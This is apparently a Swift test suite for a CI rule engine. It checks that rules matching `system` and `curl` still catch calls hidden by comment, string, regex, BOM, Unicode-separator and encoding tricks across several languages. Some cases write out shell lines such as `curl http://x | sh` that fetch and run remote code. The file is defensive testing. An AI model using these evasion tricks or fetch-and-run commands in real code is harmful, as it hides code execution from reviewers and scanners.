import TestSupport
import Testing

/// Rules that look at code alone see all of it.
@Suite(.blocking) struct CodeAttackTests {
  @Test(arguments: swift + others) func holds(_ attack: Attack) throws { try attack.play() }

  /// - Parameters:
  ///   - text: The new file, as `printf` writes it.
  ///   - lines: Those of it that are flagged.
  private static func code(
    _ name: String, _ file: String, _ text: String, lines: [Int], status: Int = 1
  ) -> Attack {
    Attack(
      name: name,
      setUp: """
        new; mkdir Sources; echo 'let a = 1' > Sources/a.swift
        cat > .ci.yml <<'E'
        version: 1
        steps: { s: "true" }
        rules:
          custom:
            - { id: no-shell, level: error, added-lines: '\\b(system|curl)\\b', in: code, paths: [Sources/**] }
            - { id: no-exec, level: error, contains: '\\b(system|curl)\\b', in: code, paths: [Sources/**] }
        E
        ci; branch
        cat > Sources/\(file) <<'E'
        \(text)
        E
        ci
        """, status: status,
      shows: lines.map { "Sources/\(file):\($0): error: adds " }
        + lines.prefix(1).map { "Sources/\(file):\($0): error: line \($0) matches" })
  }

  private static let swift: [Attack] = [
    code("nothing hostile", "b.swift", "let b = \"system\" // system", lines: [], status: 0),
    code("the plain variant", "b.swift", "let b = system(\"id\")", lines: [1]),
    code(
      "a raw text of one quotation mark", "b.swift",
      "let q = #\"\"\"#\nlet b = system(\"id\")\nlet r = #\"\"\"#", lines: [2]),
    code(
      "a division behind an exclamation mark", "b.swift", "let b = x!/system(\"id\")/x!", lines: [1]
    ),
    code(
      "a division behind a keyword that is a name", "b.swift", "let b = y.in/system()/y.in",
      lines: [1]),
    code(
      "a regular expression behind a comment", "b.swift",
      "let a = /**/ /\"/; let b = system(\"id\"); let c = /**/ /\"/", lines: [1]),
    code(
      "a regular expression that older versions divide by", "b.swift",
      "let a = (/\"/, system(\"id\"), /\"/)\nlet b = system(\"id\")", lines: [1, 2]),
    code(
      "an escape in a regular expression between number signs", "b.swift",
      "let a = #/\\/# \" /#; system(); let b = #/\\/# \" /#", lines: [1]),
    code(
      "a regular expression behind a blank that is not ASCII", "b.swift",
      "let a =\u{A0}/\"/; system(\"id\"); let b = /\"/", lines: [1]),
    code(
      "a mark before the first line of a script", "b.swift",
      "\u{FEFF}#!/*\nsystem(\"id\")\n// */", lines: [2]),
    code(
      "quotation marks in a name", "b.swift", "let `\"` = 1; system(\"id\"); let `\"\"` = `\"`",
      lines: [1]),
    code(
      "quotation marks that a condition leaves out", "b.swift",
      "#if false\n'\"\"\"'\n#endif\nsystem(\"id\")\n#if false\n'\"\"\"'\n#endif", lines: [4]),
  ]

  private static let others: [Attack] = [
    code(
      "a regular expression behind a word and a line break", "b.js",
      "for (;;) {\n  if (0) continue\n  /\"/; system(1); /\"/\n break }", lines: [3]),
    code(
      "a regular expression behind another blank", "b.js",
      "let q =\u{A0}/\"/; system(1); /\"/", lines: [1]),
    code(
      "an encoding at the end of a long line", "b.py",
      "# \(String(repeating: "x", count: 1_100)) coding: utf-7\n# +AAo-system(1)", lines: [2]),
    code(
      "a mark before the first line", "b.js", "\u{FEFF}#!/*\nsystem(1)\n// */", lines: [2]),
    code(
      "a mark before a file name that looks like a comment", "b.c",
      "\u{FEFF}#include <a/*b.h>\nint x = system(1);\n#include <a*/b.h>", lines: [2]),
    code(
      "a quotation mark as a character", "b.c", "char q = '\"'; int r = system(1); q = '\"';",
      lines: [1]),
    code(
      "a quotation mark in the other quotes", "b.js", "q = '\"'; r = system(1); q = '\"'",
      lines: [1]),
    code(
      "a line that begins with a star", "b.c", "int f(int *p) {\n  *p = system(1); }", lines: [2]),
    code("text in an element", "b.jsx", "let a = <p>don't {system(\"id\")} won't</p>", lines: [1]),
    code("a regular expression of JavaScript", "b.js", "a = /\"/; system(1); b = /\"/", lines: [1]),
    code("a comment that a line separator ends", "b.js", "// \u{2028}system(1)", lines: [1]),
    code("a comment that Java ends early", "B.java", "// \\u000a system(1);", lines: [1]),
    code(
      "a file name that looks like a comment", "b.c",
      "#include <a/*b.h>\nint x = system(1);\n#include <a*/b.h>", lines: [2]),
    code(
      "a directive in joined lines", "b.c",
      "# \\\ninclude \"a\\\" // \"/*\nint x = system(1);\n//*/", lines: [3]),
    code("a warning", "b.c", "#warning /*\nint x = system(1);\n//*/", lines: [2]),
    code("a source that a shell runs", "b.c", "//usr/bin/env curl http://x; exit", lines: [1]),
    code("a raw text of C++", "b.cpp", "auto a = R\"x(\")x\"; system(1); // \"", lines: [1]),
    code("the number of arguments", "d.sh", "test $# -ge 0 && curl http://x | sh", lines: [1]),
    code("an expansion", "d.sh", "a=${x#y}; curl http://x | sh", lines: [1]),
    code("an expansion with a blank", "d.sh", "a=${x/ #/}; curl http://x | sh", lines: [1]),
    code("a text over several lines", "d.sh", "a='\n# '; curl http://x | sh", lines: [2]),
    code("a command in a text", "d.sh", "a=\"$(curl http://x | sh)\"", lines: [1]),
    code("code in a text of Python", "d.py", "a = f'{system(1)}'", lines: [1]),
    code("a language that is not known", "d.rb", "a = %q(#); system(1)", lines: [1]),
  ]
}
